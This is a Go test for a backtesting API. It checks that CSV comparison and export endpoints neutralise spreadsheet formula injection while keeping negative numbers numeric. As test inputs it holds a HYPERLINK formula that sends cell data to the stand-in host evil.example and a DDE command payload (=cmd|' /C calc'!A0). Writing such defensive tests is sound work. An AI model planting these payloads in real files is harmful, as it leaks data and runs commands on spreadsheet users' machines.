package httpapi

import (
	"encoding/csv"
	"encoding/json"
	"strconv"
	"strings"
	"testing"
)

// TestCSVInjection: a strategy name and a parameter value that a spreadsheet would run as
// formulas reach the comparison CSV and the result export as text (a leading '), while
// numbers, negative ones included, stay numbers.
func TestCSVInjection(t *testing.T) {
	t.Parallel()
	e := newTaskEnv(t, 2)
	const (
		name  = `=HYPERLINK("http://evil.example/?"&B3,"Click")`
		value = `=cmd|' /C calc'!A0`
	)
	code := strings.Replace(taskTestStrategy, "static params = { fast: 10, slow: 30 };", `static params = { fast: 10, slow: 30, note: "" };`, 1)
	body, _ := json.Marshal(map[string]string{"name": name, "code": code})
	status, created := e.do(t, "POST", "/api/strategies", string(body))
	if status != 200 {
		t.Fatalf("create strategy: %d %v", status, created)
	}
	sid := created.(map[string]any)["id"].(string)
	params, _ := json.Marshal(map[string]any{"note": value, "fast": 5})
	var ids []string
	for range 2 {
		status, task := e.do(t, "POST", "/api/backtests", `{"strategy_id":"`+sid+`","start_date":"1970-01-01","end_date":"1979-12-31","strategy_params":`+string(params)+`}`)
		if status != 200 {
			t.Fatalf("submit: %d %v", status, task)
		}
		id := task.(map[string]any)["task_id"].(string)
		e.waitStatus(t, id, "completed")
		ids = append(ids, id)
	}
	for _, path := range []string{
		"/api/results/compare?format=csv&task_ids=" + strings.Join(ids, ","),
		"/api/results/" + ids[0] + "/export?format=csv",
	} {
		status, answer := e.do(t, "GET", path, "")
		if status != 200 {
			t.Fatalf("GET %s: %d %v", path, status, answer)
		}
		text, _ := answer.(map[string]any)["data"].(string)
		r := csv.NewReader(strings.NewReader(text))
		r.FieldsPerRecord = -1
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatalf("GET %s: not CSV: %v\n%s", path, err, text)
		}
		negatives, named := 0, false
		for _, row := range rows {
			for _, cell := range row {
				named = named || cell == "'"+name
				if cell == "" {
					continue
				}
				if v, err := strconv.ParseFloat(cell, 64); err == nil {
					if v < 0 {
						negatives++
					}
					continue
				}
				if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("GET %s: cell %q would be evaluated by a spreadsheet", path, cell)
				}
			}
		}
		if negatives == 0 {
			t.Errorf("GET %s: no negative number written as a number (a losing trade's pnl, a return):\n%s", path, text)
		}
		if strings.Contains(path, "compare") {
			if !named {
				t.Errorf("the comparison does not show the strategy's name as text:\n%s", text)
			}
			if !strings.Contains(text, value) {
				t.Errorf("the comparison lost the parameter value %q:\n%s", value, text)
			}
		}
	}
}
